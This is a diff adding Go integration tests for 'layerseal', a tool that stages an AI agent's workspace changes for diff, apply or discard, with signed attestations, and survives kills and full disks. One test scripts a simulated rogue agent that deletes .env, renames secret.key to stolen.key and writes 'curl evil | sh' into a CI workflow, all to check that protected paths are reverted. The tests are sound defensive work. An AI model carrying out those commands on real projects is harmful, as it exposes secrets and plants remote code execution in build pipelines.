@@ -1,0 +1,464 @@
+package main
+
+import (
+	"fmt"
+	"math/rand"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/go-json-experiment/json"
+	"golang.org/x/sys/unix"
+
+	"github.com/layerseal/layerseal/attest"
+	"github.com/layerseal/layerseal/internal/treediff"
+)
+
+// Environment of the test binary acting as layerseal apply.
+const (
+	killAtEnv    = "LAYERSEAL_TEST_KILL_AT"    // N: SIGKILL this process before apply step N (1-based)
+	stepsFileEnv = "LAYERSEAL_TEST_STEPS_FILE" // FILE: record the number of apply steps taken
+)
+
+func init() {
+	killAt, _ := strconv.Atoi(os.Getenv(killAtEnv))
+	stepsFile := os.Getenv(stepsFileEnv)
+	if killAt <= 0 && stepsFile == "" {
+		return
+	}
+	n := 0
+	applyProgress = func(string, attest.Path) {
+		n++
+		if n == killAt {
+			unix.Kill(os.Getpid(), unix.SIGKILL)
+			select {} // the signal is on its way
+		}
+		if stepsFile != "" {
+			os.WriteFile(stepsFile, []byte(strconv.Itoa(n)), 0o644)
+		}
+	}
+}
+
+// stagedRun runs script as the agent with --stage, records the agent's view
+// of the workspace, and returns the output dir and that view.
+func (e *env) stagedRun(name, script string, extra ...string) (string, treediff.Manifest) {
+	e.t.Helper()
+	view := filepath.Join(e.dir, name+".manifest")
+	out := filepath.Join(e.dir, name)
+	script += fmt.Sprintf("\nLAYERSEAL_TEST_MANIFEST=1 %q . %q", os.Args[0], view)
+	if code, log := e.run(out, script, append([]string{"--stage"}, extra...)...); code != 0 {
+		e.t.Fatalf("run: exit %d\n%s", code, log)
+	}
+	m, err := treediff.ReadFile(view)
+	if err != nil {
+		e.t.Fatalf("the agent's manifest: %v", err)
+	}
+	return out, m
+}
+
+func (e *env) manifest() treediff.Manifest {
+	e.t.Helper()
+	m, err := treediff.Walk(e.ws)
+	if err != nil {
+		e.t.Fatal(err)
+	}
+	return m
+}
+
+// mustCLI runs the CLI and fails unless it exits with code.
+func (e *env) mustCLI(code int, args ...string) string {
+	e.t.Helper()
+	got, stdout, stderr := e.cli(args...)
+	if got != code {
+		e.t.Fatalf("%v: exit %d, want %d\n%s%s", args, got, code, stdout, stderr)
+	}
+	return stdout + stderr
+}
+
+// TestStageDiffApplyDiscard: a staged session leaves the workspace alone,
+// diff shows its change set (excluded subtrees counted), apply applies it
+// exactly once, and discard drops another; misuse gets clear errors.
+func TestStageDiffApplyDiscard(t *testing.T) {
+	e := newEnv(t)
+	write(t, e.ws, baseTree)
+	write(t, e.ws, map[string]string{"node_modules/old/x": "1", "layerseal.yaml": "exclude: [node_modules]\n"})
+	before := e.manifest()
+	out, view := e.stagedRun("s1", `echo changed > file.txt; rm del.txt
+mkdir -p node_modules/pkg/lib; printf 12345 > node_modules/pkg/lib/a.js; printf abc > node_modules/pkg/b.js; rm -r node_modules/old`)
+	if d := treediff.Equal(before, e.manifest()); d != "" {
+		t.Fatalf("a staged run changed the workspace: %s", d)
+	}
+	diff := e.mustCLI(0, "diff", "--state-dir", e.state, out)
+	for _, want := range []string{"M  file.txt\n", "D  del.txt\n", "X  node_modules\t6 entries, 8 bytes\n", "# 3 change(s) to apply, 1 excluded subtree(s), complete"} {
+		if !strings.Contains(diff, want) {
+			t.Errorf("diff lacks %q:\n%s", want, diff)
+		}
+	}
+	if strings.Contains(diff, "a.js") {
+		t.Errorf("diff itemizes an excluded path:\n%s", diff)
+	}
+	e.mustCLI(0, "verify", "--key", e.pub, "--launch", filepath.Join(out, "launch.json"), filepath.Join(out, "statement.json"))
+
+	e.mustCLI(0, "apply", "--state-dir", e.state, out)
+	if d := treediff.Equal(view, e.manifest()); d != "" {
+		t.Errorf("after apply the workspace differs from the agent's view: %s", d)
+	}
+	if msg := e.mustCLI(1, "apply", "--state-dir", e.state, out); !strings.Contains(msg, "already applied") {
+		t.Errorf("second apply: %s", msg)
+	}
+	if msg := e.mustCLI(1, "discard", "--state-dir", e.state, out); !strings.Contains(msg, "already applied") {
+		t.Errorf("discard after apply: %s", msg)
+	}
+	if msg := e.mustCLI(1, "diff", "--state-dir", e.state, out); !strings.Contains(msg, "already applied") {
+		t.Errorf("diff after apply: %s", msg)
+	}
+
+	// Discard: the workspace keeps its state; apply is refused afterwards.
+	now := e.manifest()
+	out2, _ := e.stagedRun("s2", `echo again > file.txt`)
+	e.mustCLI(0, "discard", "--state-dir", e.state, out2)
+	if d := treediff.Equal(now, e.manifest()); d != "" {
+		t.Errorf("discard changed the workspace: %s", d)
+	}
+	if msg := e.mustCLI(1, "apply", "--state-dir", e.state, out2); !strings.Contains(msg, "discarded") {
+		t.Errorf("apply after discard: %s", msg)
+	}
+	if msg := e.mustCLI(1, "apply", "--state-dir", e.state, filepath.Join(e.dir, "nonesuch")); !strings.Contains(msg, "no session") {
+		t.Errorf("apply of an unknown session: %s", msg)
+	}
+
+	// Someone edits the real workspace while a session is staged: apply
+	// refuses and names the path, --force applies.
+	out3, view3 := e.stagedRun("s3", `echo agent > file.txt; echo new > fresh.txt`)
+	if err := os.WriteFile(filepath.Join(e.ws, "file.txt"), []byte("human edit\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if msg := e.mustCLI(1, "apply", "--state-dir", e.state, out3); !strings.Contains(msg, `"file.txt"`) || !strings.Contains(msg, "--force") {
+		t.Errorf("apply over a changed workspace: %s", msg)
+	}
+	e.mustCLI(0, "apply", "--force", "--state-dir", e.state, out3)
+	if d := treediff.Equal(view3, e.manifest()); d != "" {
+		t.Errorf("after apply --force: %s", d)
+	}
+}
+
+// TestSweepProtected: changes to protected paths — deleted, renamed,
+// chmodded, replaced under an opaque directory, a new ignored .env — are
+// reverted before apply and recorded; everything else is applied; an
+// --allow lets one through; a useless --allow is warned about.
+func TestSweepProtected(t *testing.T) {
+	e := newEnv(t)
+	write(t, e.ws, baseTree)
+	write(t, e.ws, map[string]string{
+		".env": "SECRET=1", ".gitignore": ".env*\n", ".github/workflows/ci.yml": "ci", ".github/workflows/release.yml": "rel",
+		"deploy/prod.yml": "prod", "secret.key": "k", "notes.md": "n",
+		"layerseal.yaml": "protected: [.env, \".env.*\", .github/workflows/**, deploy/**, secret.key, notes.md]\n",
+	})
+	before := e.manifest()
+	script := `rm .env
+echo LEAK=1 > .env.local
+mv secret.key stolen.key
+chmod 666 deploy/prod.yml
+rm -rf .github; mkdir -p .github/workflows; echo 'curl evil | sh' > .github/workflows/ci.yml
+echo allowed > notes.md
+echo 'exclude: []' > layerseal.yaml
+echo changed > file.txt`
+	out := filepath.Join(e.dir, "run")
+	args := []string{"run", "--workspace", e.ws, "--key", e.key, "--out", out, "--state-dir", e.state,
+		"--allow", "notes.md", "--allow", "src/**", "--", "/bin/sh", "-ec", script}
+	code, stdout, stderr := e.cli(args...)
+	if code != 0 {
+		t.Fatalf("run: exit %d\n%s%s", code, stdout, stderr)
+	}
+	if !strings.Contains(stderr, `--allow "src/**" matches no protected path`) {
+		t.Errorf("no warning for a useless --allow:\n%s", stderr)
+	}
+	e.mustCLI(0, "verify", "--key", e.pub, "--launch", filepath.Join(out, "launch.json"), filepath.Join(out, "statement.json"))
+	env, err := os.ReadFile(filepath.Join(out, "statement.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	st, err := attest.ReadStatement(env)
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]string{}
+	for _, v := range st.Violations {
+		got[string(v.Path)] = v.Rule + " " + string(v.Action)
+	}
+	for p, want := range map[string]string{
+		".env": ".env reverted", ".env.local": ".env.* reverted", "secret.key": "secret.key reverted",
+		"deploy/prod.yml": "deploy/** reverted", ".github/workflows/ci.yml": ".github/workflows/** reverted",
+		".github/workflows/release.yml": ".github/workflows/** reverted", "layerseal.yaml": "layerseal.yaml reverted",
+	} {
+		if got[p] != want {
+			t.Errorf("violation %q: %q, want %q", p, got[p], want)
+		}
+	}
+	if _, ok := got["notes.md"]; ok {
+		t.Errorf("allowed notes.md reported as a violation")
+	}
+	var launch struct {
+		Predicate struct {
+			Policy struct {
+				Allow  []string `json:"allow"`
+				Config string   `json:"config_sha256"`
+			} `json:"policy"`
+		} `json:"predicate"`
+	}
+	lb, _ := os.ReadFile(filepath.Join(out, "launch.json"))
+	var envl struct {
+		Payload []byte `json:"payload"`
+	}
+	if err := json.Unmarshal(lb, &envl, json.RejectUnknownMembers(false)); err != nil {
+		t.Fatal(err)
+	}
+	if err := json.Unmarshal(envl.Payload, &launch, json.RejectUnknownMembers(false)); err != nil {
+		t.Fatal(err)
+	}
+	if strings.Join(launch.Predicate.Policy.Allow, ",") != "notes.md,src/**" || len(launch.Predicate.Policy.Config) != 64 {
+		t.Errorf("launch policy: %+v", launch.Predicate.Policy)
+	}
+
+	after := e.manifest()
+	for p, n := range before {
+		protected := p == ".env" || p == "secret.key" || p == "layerseal.yaml" || strings.HasPrefix(p, "deploy/") || strings.HasPrefix(p, ".github/workflows/")
+		if !protected {
+			continue
+		}
+		a, ok := after[p]
+		n.Links, a.Links = nil, nil
+		if !ok || treediff.Equal(treediff.Manifest{p: n}, treediff.Manifest{p: a}) != "" {
+			t.Errorf("protected %q not as before: %s", p, treediff.Equal(treediff.Manifest{p: n}, treediff.Manifest{p: a}))
+		}
+	}
+	for p, want := range map[string]bool{".env.local": false, "stolen.key": true, ".github/workflows": true} {
+		if _, ok := after[p]; ok != want {
+			t.Errorf("%q present = %t, want %t", p, ok, want)
+		}
+	}
+	if after["notes.md"].Size != int64(len("allowed\n")) || after["file.txt"].Size != int64(len("changed\n")) {
+		t.Errorf("allowed or unprotected changes were not applied")
+	}
+}
+
+// TestApplyKilled kills `layerseal apply` with SIGKILL at 50 seeded steps
+// and checks that a second apply then finishes the job exactly.
+func TestApplyKilled(t *testing.T) {
+	e := newEnv(t)
+	write(t, e.ws, baseTree)
+	write(t, e.ws, map[string]string{"layerseal.yaml": "exclude: [cache]\n"})
+	out, view := e.stagedRun("s", `echo changed > file.txt; printf ABCDEF > same.txt; echo line2 >> append.txt
+chmod 600 mode.txt; chown 1234:4321 owner.txt; touch -d '2024-05-06 07:08:09' touch.txt; setfattr -n user.agent -v hi xattr.txt
+rm del.txt; rm -rf dir; rm -rf redo; mkdir redo; echo again > redo/x; mv mv.txt moved.txt; mv mvdir renamed
+ln target.txt hard.txt; ln -s target.txt sym; mkfifo fifo; chmod 700 deep/er; rm -rf empty; echo now-a-file > empty
+mkdir -p new/a/b; for i in 1 2 3 4 5 6 7 8; do echo $i > new/a/b/f$i; done; mkdir -p cache/x; echo c > cache/x/y`)
+	snap := filepath.Join(e.dir, "snap")
+	if err := os.Mkdir(snap, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	cp := func(from, to string) {
+		t.Helper()
+		if err := os.RemoveAll(to); err != nil {
+			t.Fatal(err)
+		}
+		if b, err := exec.Command("cp", "-a", from, to).CombinedOutput(); err != nil {
+			t.Fatalf("cp -a %s %s: %v\n%s", from, to, err, b)
+		}
+	}
+	for _, d := range []string{"ws", "state", "s"} {
+		cp(filepath.Join(e.dir, d), filepath.Join(snap, d))
+	}
+	restore := func() {
+		for _, d := range []string{"ws", "state", "s"} {
+			cp(filepath.Join(snap, d), filepath.Join(e.dir, d))
+		}
+	}
+	steps := filepath.Join(e.dir, "steps")
+	if code, _, stderr := e.cliEnv([]string{stepsFileEnv + "=" + steps}, "apply", "--state-dir", e.state, out); code != 0 {
+		t.Fatalf("apply: %s", stderr)
+	}
+	b, _ := os.ReadFile(steps)
+	total, _ := strconv.Atoi(string(b))
+	if total < 50 {
+		t.Fatalf("only %d apply steps: the scenario is too small", total)
+	}
+	if d := treediff.Equal(view, e.manifest()); d != "" {
+		t.Fatalf("uninterrupted apply: %s", d)
+	}
+	rng := rand.New(rand.NewSource(4))
+	points := rng.Perm(total)[:50]
+	for i, p := range points {
+		at := p + 1
+		restore()
+		code, _, stderr := e.cliEnv([]string{fmt.Sprintf("%s=%d", killAtEnv, at)}, "apply", "--state-dir", e.state, out)
+		if code != -1 {
+			t.Fatalf("kill point %d (step %d of %d): exit %d, want death by SIGKILL\n%s", i, at, total, code, stderr)
+		}
+		if i%10 == 0 && at > 1 {
+			// Killed again while resuming, earlier in the run.
+			if code, _, _ := e.cliEnv([]string{fmt.Sprintf("%s=%d", killAtEnv, 1+at/2)}, "apply", "--state-dir", e.state, out); code != -1 {
+				t.Fatalf("second kill at step %d: exit %d", 1+at/2, code)
+			}
+		}
+		if code, stdout, stderr := e.cli("apply", "--state-dir", e.state, out); code != 0 {
+			t.Fatalf("resume after kill at step %d of %d: exit %d\n%s%s", at, total, code, stdout, stderr)
+		}
+		if d := treediff.Equal(view, e.manifest()); d != "" {
+			t.Fatalf("after kill at step %d of %d and resume: %s", at, total, d)
+		}
+		if msg := e.mustCLI(1, "apply", "--state-dir", e.state, out); !strings.Contains(msg, "already applied") {
+			t.Fatalf("apply after resume: %s", msg)
+		}
+	}
+	t.Logf("%d kill points of %d steps, each resumed to the agent's view", len(points), total)
+}
+
+// TestApplyNoSpace applies onto a full tmpfs: the apply stops with an error
+// that says how to resume, the change set stays, and after space is freed
+// the apply finishes exactly.
+func TestApplyNoSpace(t *testing.T) {
+	e := newEnv(t)
+	fs := filepath.Join(e.dir, "small")
+	if err := os.Mkdir(fs, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := unix.Mount("tmpfs", fs, "tmpfs", 0, "size=512k,mode=0755"); err != nil {
+		t.Fatalf("mount tmpfs: %v", err)
+	}
+	t.Cleanup(func() { unix.Unmount(fs, unix.MNT_DETACH) })
+	e.ws = filepath.Join(fs, "ws")
+	if err := os.Mkdir(e.ws, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	write(t, e.ws, map[string]string{"a.txt": "a", "dir/b.txt": "b"})
+	out, view := e.stagedRun("s", `head -c 400000 /dev/urandom > big1; head -c 400000 /dev/urandom > dir/big2; echo c > a.txt; rm dir/b.txt`)
+	code, stdout, stderr := e.cli("apply", "--state-dir", e.state, out)
+	if code != 1 || !strings.Contains(stderr, "no space left") || !strings.Contains(stderr, "layerseal apply "+out) {
+		t.Fatalf("apply on a full disk: exit %d\n%s%s", code, stdout, stderr)
+	}
+	e.mustCLI(0, "diff", "--state-dir", e.state, out) // still staged
+	if err := unix.Mount("tmpfs", fs, "tmpfs", unix.MS_REMOUNT, "size=4m,mode=0755"); err != nil {
+		t.Fatalf("grow tmpfs: %v", err)
+	}
+	e.mustCLI(0, "apply", "--state-dir", e.state, out)
+	if d := treediff.Equal(view, e.manifest()); d != "" {
+		t.Errorf("after freeing space and resuming: %s", d)
+	}
+}
+
+// TestRecoverAfterSupervisorKilled kills the supervisor with SIGKILL while
+// the agent runs: the agent dies with its namespace, and recover signs an
+// incomplete statement of what it wrote, which can then be applied.
+func TestRecoverAfterSupervisorKilled(t *testing.T) {
+	e := newEnv(t)
+	// A short state dir: the session's control socket path must fit a
+	// unix socket address.
+	short, err := os.MkdirTemp("/tmp", "ls")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(short) })
+	e.state = short
+	write(t, e.ws, baseTree)
+	out := filepath.Join(e.dir, "run")
+	marker := "987" + strconv.Itoa(os.Getpid()%1000)
+	cmd := exec.Command(os.Args[0], "run", "--workspace", e.ws, "--key", e.key, "--out", out, "--state-dir", e.state,
+		"--", "/bin/sh", "-ec", "echo new > new.txt; rm del.txt; exec sleep "+marker)
+	cmd.Env = append(os.Environ(), cliEnv+"=1")
+	var runLog strings.Builder
+	cmd.Stdout, cmd.Stderr = &runLog, &runLog
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	deadline := time.Now().Add(20 * time.Second)
+	for {
+		ups, _ := filepath.Glob(filepath.Join(e.state, "sessions", "*", "upper", "new.txt"))
+		if len(ups) == 1 && sleeping(marker) {
+			break
+		}
+		if time.Now().After(deadline) {
+			cmd.Process.Kill()
+			t.Fatalf("the agent did not start (upper: %q, sleeping: %t)\n%s", ups, sleeping(marker), runLog.String())
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	cmd.Process.Signal(syscall.SIGKILL)
+	cmd.Wait()
+	for deadline := time.Now().Add(5 * time.Second); sleeping(marker); time.Sleep(20 * time.Millisecond) {
+		if time.Now().After(deadline) {
+			t.Fatal("the agent outlived its supervisor")
+		}
+	}
+	if msg := e.mustCLI(1, "apply", "--state-dir", e.state, out); !strings.Contains(msg, "layerseal recover") {
+		t.Errorf("apply before recover: %s", msg)
+	}
+	if msg := e.mustCLI(64, "recover", "--state-dir", e.state, out); !strings.Contains(msg, "--key") {
+		t.Errorf("recover without a key: %s", msg)
+	}
+	e.mustCLI(0, "recover", "--key", e.key, "--state-dir", e.state, out)
+	statement := filepath.Join(out, "statement.json")
+	if code, stdout, stderr := e.cli("verify", "--key", e.pub, "--launch", filepath.Join(out, "launch.json"), statement); code != 2 || !strings.Contains(stdout+stderr, "unobserved-end") {
+		t.Errorf("verify after recover: exit %d, want 2 with unobserved-end\n%s%s", code, stdout, stderr)
+	}
+	if msg := e.mustCLI(1, "recover", "--key", e.key, "--state-dir", e.state, out); !strings.Contains(msg, "already has a statement") {
+		t.Errorf("second recover: %s", msg)
+	}
+	diff := e.mustCLI(0, "diff", "--state-dir", e.state, out)
+	if !strings.Contains(diff, "A  new.txt\n") || !strings.Contains(diff, "D  del.txt\n") {
+		t.Errorf("diff after recover:\n%s", diff)
+	}
+	e.mustCLI(0, "apply", "--state-dir", e.state, out)
+	if b, err := os.ReadFile(filepath.Join(e.ws, "new.txt")); err != nil || string(b) != "new\n" {
+		t.Errorf("new.txt after apply: %q, %v", b, err)
+	}
+	if _, err := os.Lstat(filepath.Join(e.ws, "del.txt")); !os.IsNotExist(err) {
+		t.Errorf("del.txt after apply: %v", err)
+	}
+}
+
+// sleeping reports whether a `sleep marker` process is alive.
+func sleeping(marker string) bool {
+	procs, _ := filepath.Glob("/proc/[0-9]*/cmdline")
+	for _, p := range procs {
+		b, err := os.ReadFile(p)
+		if err == nil && string(b) == "sleep\x00"+marker+"\x00" {
+			return true
+		}
+	}
+	return false
+}
+
+// TestConfigRefused: bad configurations are usage errors naming the line,
+// and nothing runs.
+func TestConfigRefused(t *testing.T) {
+	e := newEnv(t)
+	for _, c := range []struct{ yaml, want string }{
+		{"exclude: [a]\nprotect: [.env]\n", "line 2"},
+		{"protected: [a//b]\n", "can never match"},
+		{"apply: later\n", "later"},
+	} {
+		if err := os.WriteFile(filepath.Join(e.ws, "layerseal.yaml"), []byte(c.yaml), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		code, log := e.run(filepath.Join(e.dir, "out"), "touch ran")
+		if code != exitUsage || !strings.Contains(log, c.want) {
+			t.Errorf("config %q: exit %d, want %d with %q\n%s", c.yaml, code, exitUsage, c.want, log)
+		}
+		if _, err := os.Lstat(filepath.Join(e.ws, "ran")); err == nil {
+			t.Fatalf("the agent ran despite config %q", c.yaml)
+		}
+	}
+	if err := os.Remove(filepath.Join(e.ws, "layerseal.yaml")); err != nil {
+		t.Fatal(err)
+	}
+	code, log := e.run(filepath.Join(e.dir, "out2"), "true", "--allow", "/abs")
+	if code != exitUsage || !strings.Contains(log, "absolute") {
+		t.Errorf("--allow /abs: exit %d\n%s", code, log)
+	}
+}
